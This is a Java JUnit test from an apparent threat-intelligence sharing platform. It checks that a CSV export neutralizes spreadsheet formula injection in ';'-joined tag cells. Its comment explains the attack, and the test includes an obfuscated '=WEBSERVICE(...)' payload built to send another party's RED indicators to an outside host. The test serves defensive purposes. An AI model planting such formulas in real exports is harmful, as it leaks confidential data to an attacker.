package org.caspianhub.producers.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.caspianhub.avro.Alert;
import org.caspianhub.avro.IndicatorType;
import org.caspianhub.avro.Tlp;
import org.caspianhub.parties.PartyId;
import org.caspianhub.producers.knowledge.export.ExportFormat;
import org.caspianhub.topics.HubTopics;
import org.junit.jupiter.api.Test;

/**
 * Attack (review of branch knowledge), the other way round: ir plants a formula in a GREEN tag
 * (tags are free text, up to 100 characters) on a value az also knows. az's CSV export lists its
 * own RED indicators next to it. The export neutralizes a cell only when the cell's first character
 * is {@code = + - @}; the tags cell joins the tags with {@code ;} (sorted, so ir's tag need not be
 * first). A spreadsheet whose list separator is {@code ;} (every locale with a decimal comma, the
 * Azerbaijani one included) splits the line there and evaluates ir's tag as a formula in az's
 * analyst's sheet: {@code WEBSERVICE} (no quotes or commas needed) sends the sheet's cells, az's
 * RED values among them, to ir.
 */
class KnowledgeCsvInjectionLeakTest {

    static final Instant T0 = Instant.parse("2026-03-03T10:00:00Z");

    @Test
    void noListElementOfACsvCellStartsAFormula() throws Exception {
        String formula = "=WEBSERVICE(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&A3)";
        Alert shared = Alerts.of("az", IndicatorType.DOMAIN, "shared.example", Tlp.GREEN, 60, List.of("0day", formula), List.of(),
                T0, "az", "ir");
        Alert red = Alerts.of("az", IndicatorType.DOMAIN, "az-red-only.example", Tlp.RED, 90, List.of("internal"), List.of(),
                T0, "az");
        String csv;
        try (KnowledgeBase base = new KnowledgeBase(new MemoryViewStore(), 50)) {
            KnowledgeBase.Batch batch = base.batch();
            batch.add("az", shared);
            batch.add("az", red);
            batch.offset(HubTopics.alerts(PartyId.of("az")), 0, 2);
            batch.commit();
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (KnowledgeBase.Reader reader = base.read()) {
                KnowledgeQueries.export(reader, "az", ExportFormat.CSV, SearchFilter.parse(Map.of()).filter(), "\"e\"", out);
            }
            csv = out.toString(StandardCharsets.UTF_8);
        }
        assertThat(csv).contains("az-red-only.example");
        for (String line : csv.split("\r\n")) {
            for (String piece : line.split("[,;]")) {
                String cell = piece.startsWith("\"") ? piece.substring(1) : piece;
                assertThat(cell.isEmpty() || "=+-@".indexOf(cell.charAt(0)) < 0)
                        .as("a cell a ';'-separated spreadsheet would read as a formula, in az's export:\n%s", csv)
                        .isTrue();
            }
        }
    }
}
